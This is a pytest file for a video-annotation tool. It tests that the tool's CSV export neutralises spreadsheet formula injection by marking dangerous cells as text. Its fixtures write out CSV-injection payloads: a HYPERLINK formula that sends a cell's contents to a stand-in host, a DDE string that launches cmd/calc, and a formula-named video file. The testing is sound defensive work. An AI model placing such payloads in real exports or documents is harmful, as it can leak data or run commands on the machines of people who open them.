"""The CSV export never hands a spreadsheet a formula: every text cell is made safe.

Codes come from a crafted ELAN file (a shared EAF can carry any code id);
titles, notes, strengths, prompts, the case code and the recording's name
start with each character a spreadsheet would run. The file is read back
with the csv module.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from sample_clips.kinds import VideoTruth
from vigtool import Workspace
from vigtool.codebook import DEFAULT_CODEBOOK_ID, builtin_codebook
from vigtool.exports.eaf import OTHER_CODES_TYPE
from vigtool.exports.eaf_import import import_eaf
from vigtool.exports.session import build_session
from vigtool.exports.tabular import CSV_COLUMNS, write_csv

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
LINK = '=HYPERLINK("http://example.invalid/?d="&A1,"Open")'
NUMBERS = ("cycle", "recording_id", "moment_id", "start_frame", "end_frame", "frames",
           "start_ms", "end_ms", "duration_ms")


def _crafted_eaf() -> bytes:
    """Two moments; codes on vigtool's "Other codes" tier (any id goes) and a
    vocabulary whose values are formulas."""
    slots = "".join(f'<TIME_SLOT TIME_SLOT_ID="ts{i}" TIME_VALUE="{ms}"/>'
                    for i, ms in enumerate((200, 600, 800, 1200), start=1))

    def aligned(ann: str, ts1: int, ts2: int, value: str, cve: str = "") -> str:
        ref = f' CVE_REF="{cve}"' if cve else ""
        return (f'<ANNOTATION><ALIGNABLE_ANNOTATION ANNOTATION_ID="{ann}" TIME_SLOT_REF1="ts{ts1}"'
                f' TIME_SLOT_REF2="ts{ts2}"{ref}><ANNOTATION_VALUE>{value}</ANNOTATION_VALUE>'
                "</ALIGNABLE_ANNOTATION></ANNOTATION>")

    def referring(ann: str, parent: str, value: str) -> str:
        return (f'<ANNOTATION><REF_ANNOTATION ANNOTATION_ID="{ann}" ANNOTATION_REF="{parent}">'
                f"<ANNOTATION_VALUE>{value}</ANNOTATION_VALUE></REF_ANNOTATION></ANNOTATION>")

    link = LINK.replace("&", "&amp;").replace('"', "&quot;")
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<ANNOTATION_DOCUMENT AUTHOR="" DATE="2024-01-01T00:00:00+00:00" VERSION="3.0">'
        f'<HEADER TIME_UNITS="milliseconds"/><TIME_ORDER>{slots}</TIME_ORDER>'
        '<TIER TIER_ID="Moments" LINGUISTIC_TYPE_REF="talk">'
        + aligned("a1", 1, 2, link, cve="cve1") + aligned("a2", 3, 4, "@SUM(1+1)*cmd")
        + "</TIER>"
        f'<TIER TIER_ID="Other codes" LINGUISTIC_TYPE_REF="{OTHER_CODES_TYPE}"'
        ' PARENT_REF="Moments">'
        + referring("a3", "a1", link) + referring("a4", "a2", "+cmd|' /C calc'!A0")
        + "</TIER>"
        '<LINGUISTIC_TYPE LINGUISTIC_TYPE_ID="talk" TIME_ALIGNABLE="true"'
        ' CONTROLLED_VOCABULARY_REF="formulas"/>'
        f'<LINGUISTIC_TYPE LINGUISTIC_TYPE_ID="{OTHER_CODES_TYPE}" TIME_ALIGNABLE="false"'
        ' CONSTRAINTS="Symbolic_Association"/>'
        '<CONTROLLED_VOCABULARY CV_ID="formulas"><CV_ENTRY_ML CVE_ID="cve1">'
        f'<CVE_VALUE LANG_REF="eng">{link}</CVE_VALUE></CV_ENTRY_ML></CONTROLLED_VOCABULARY>'
        "</ANNOTATION_DOCUMENT>"
    ).encode()


def _rows(path: Path) -> list[dict[str, str]]:
    text = path.read_bytes().decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _assert_nothing_runs(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(DANGEROUS), (column, cell)
        for column in NUMBERS:
            assert row[column].isdigit(), (column, row[column])  # numbers stay numbers


@pytest.fixture
def film(small_video: VideoTruth, tmp_path: Path) -> Path:
    """The small clip under a name a spreadsheet would run."""
    path = tmp_path / "=HYPERLINK(1)-film.mp4"
    path.write_bytes(small_video.path.read_bytes())
    return path


def test_codes_from_a_shared_elan_file_are_written_as_text(
    workspace: Workspace, film: Path, tmp_path: Path
) -> None:
    case = workspace.add_case("FAM-01")
    workspace.add_consent(case.id, kind="filming", given=True)
    rec = workspace.import_recording(case.id, path=film)
    eaf = tmp_path / "shared.eaf"
    eaf.write_bytes(_crafted_eaf())
    import_eaf(workspace, eaf, case.id, rec.id, builtin_codebook(DEFAULT_CODEBOOK_ID))
    moments = workspace.moments(rec.id)
    assert [m.codes for m in moments] == [(LINK,), ("+cmd|' /C calc'!A0",)]

    rows = _rows(write_csv(build_session(workspace, case.id), tmp_path / "moments.csv"))
    _assert_nothing_runs(rows)
    assert [(r["codes"], r["code_labels"], r["title"]) for r in rows] == [
        ("'" + LINK, "'" + LINK, "'" + LINK),
        ("'+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0", "'@SUM(1+1)*cmd"),
    ]
    assert rows[0]["recording"] == "'=HYPERLINK(1)-film.mp4"


@pytest.mark.parametrize("start", DANGEROUS)
def test_every_text_cell_starting_like_a_formula_is_kept_as_text(
    start: str, workspace: Workspace, small_video: VideoTruth, tmp_path: Path
) -> None:
    case = workspace.add_case(f"{start}FAM" if start not in "\t\r" else "FAM-02")
    workspace.add_consent(case.id, kind="filming", given=True)
    rec = workspace.import_recording(case.id, path=small_video.path)
    words = {what: f"{start}{what} 1+1" for what in ("title", "note", "strengths", "prompt")}
    workspace.add_moment(rec.id, start_frame=5, end_frame=9, codes=[f"{start}code".strip()],
                         selected_for_review=True, review_order=1, **words)
    rows = _rows(write_csv(build_session(workspace, case.id), tmp_path / "moments.csv"))
    _assert_nothing_runs(rows)
    stored = workspace.moments(rec.id)[0]
    for what in words:
        assert rows[0][what] == "'" + getattr(stored, what), "the words are kept, only marked"
    assert tuple(rows[0]) == CSV_COLUMNS
